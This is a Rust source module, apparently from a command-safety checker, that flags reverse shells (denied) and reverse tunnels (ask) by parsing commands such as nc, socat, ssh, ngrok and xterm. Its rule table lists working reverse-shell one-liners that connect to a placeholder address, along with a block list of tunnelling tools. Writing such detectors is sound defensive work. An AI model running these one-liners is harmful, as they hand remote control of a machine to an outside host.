//! A shell handed to somebody on the network.

use super::{Call, Hit, rules};

rules! {
    SHELL = "reverse.shell", Deny, "It connects a shell to the network.",
        matches ["bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "nc -e /bin/sh 203.0.113.9 4444", "socat TCP:203.0.113.9:443 EXEC:/bin/sh", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/f", "exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done", "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',443));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\"", "xterm -display 203.0.113.9:1",  "coproc nc 203.0.113.9 443; sh <&${COPROC[0]} >&${COPROC[1]}", "echo 'set s [socket 203.0.113.9 443];while {[gets $s l]>=0} {catch {exec sh -c $l} r;puts $s $r}' | tclsh"],
        near ["nc -z db-1 5432", "openssl s_client -connect db-1:5432", "(echo > /dev/tcp/localhost/8080) 2>/dev/null", "socat - TCP:localhost:80", "bash -i"];
    TUNNEL = "reverse.tunnel", Ask, "It opens a way from outside into this host.",
        matches ["ssh -fN -R 2222:localhost:22 u@203.0.113.9", "ngrok tcp 22", "chisel client 203.0.113.9:80 R:socks", "nc -lvp 4444", "socat TCP-LISTEN:4444,fork TCP:localhost:22", "ttyd -p 8080 bash", "tmate -F"],
        near ["ssh -L 8080:localhost:80 web-1", "nc -zv web-1 80"];
}

/// Applies the rules of this family.
pub fn check(call: &Call<'_>) -> Vec<Hit> {
    let mut hits = Vec::new();
    match call.name {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => {
            let options = call.options("-p -s -w -i -X -x -e -c -g -G -q -I -O -T -o --exec --sh-exec --lua-exec --source-port --wait --ssl-cert --ssl-key");
            if options.any(&["-e", "-c", "--exec", "--sh-exec", "--lua-exec"]) && !options.any(&["-z"]) {
                hits.push(Hit::on(&SHELL, "network"));
            } else if options.any(&["-l", "--listen"]) && call.output.is_none() && !call.place.piped {
                hits.push(Hit::of(&TUNNEL));
            }
            if call.stdin.steps.iter().any(|s| s == "shell output")
                || call
                    .output
                    .is_some_and(|o| call.files.contains_key(&format!("fifo:{}", call.path(o))))
            {
                hits.push(Hit::on(&SHELL, "network"));
            }
        }
        "socat" => {
            let line: String = call.words().collect::<Vec<_>>().join(" ").to_lowercase();
            let runs = line.contains("exec:") || line.contains("system:") || line.contains("shell:");
            let network = ["tcp", "udp", "openssl", "ssl", "sctp", "socks"]
                .iter()
                .any(|n| line.contains(n));
            if runs && network {
                hits.push(Hit::on(&SHELL, "network"));
            } else if (line.contains("-listen:") || line.contains("-l:"))
                && (line.contains(":22") || !line.contains(" tcp"))
            {
                hits.push(Hit::of(&TUNNEL));
            }
        }
        "ssh" | "autossh" => {
            let options = call.options("-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B");
            if options.any(&["-R", "-w"]) {
                hits.push(Hit::of(&TUNNEL));
            }
        }
        "xterm" | "rxvt" | "urxvt" | "konsole" | "gnome-terminal" | "xfce4-terminal" | "st" | "uxterm"
            if call.words().any(|word| {
                let address = word.strip_prefix("--display=").unwrap_or(word);
                address.split_once(':').is_some_and(|(host, screen)| {
                    !host.is_empty()
                        && !matches!(host, "localhost" | "127.0.0.1" | "unix")
                        && screen.starts_with(|c: char| c.is_ascii_digit())
                })
            }) =>
        {
            hits.push(Hit::on(&SHELL, "network"));
        }
        "ngrok" | "chisel" | "frpc" | "cloudflared" | "bore" | "localtunnel" | "lt" | "gost" | "ligolo"
        | "pwncat" | "rathole" | "ttyd" | "gotty" | "shellinaboxd" | "shellinabox" | "tmate" | "wetty"
        | "sshx" | "ligolo-agent" | "ligolo-ng" | "agent-ligolo" | "iodine" | "dnscat" | "dnscat2"
        | "websocketd" | "revsocks" | "pagekite" | "teleconsole" | "upterm"
            if !call.has(&["version", "help", "update", "list"]) =>
        {
            hits.push(Hit::of(&TUNNEL));
        }
        "telnet" | "openssl" if call.stdin.steps.iter().any(|s| s == "shell output") => {
            hits.push(Hit::on(&SHELL, "network"));
        }
        "msfvenom" | "msfconsole" | "gsocket" | "gs-netcat" => hits.push(Hit::on(&SHELL, "network")),
        "php" | "lua" | "ksh" | "zsh" => {
            let line: String = call.words().collect::<Vec<_>>().join(" ");
            if line.contains("fsockopen") && line.contains("sh")
                || line.contains("ztcp") && line.contains("sh")
            {
                hits.push(Hit::on(&SHELL, "network"));
            }
        }
        _ => {}
    }
    if call.socket
        && matches!(call.name, "sh" | "bash" | "zsh" | "dash" | "ksh")
        && !call.words().any(|w| w.starts_with('-') && w.contains('c'))
    {
        hits.push(Hit::on(&SHELL, "network"));
    }
    hits
}
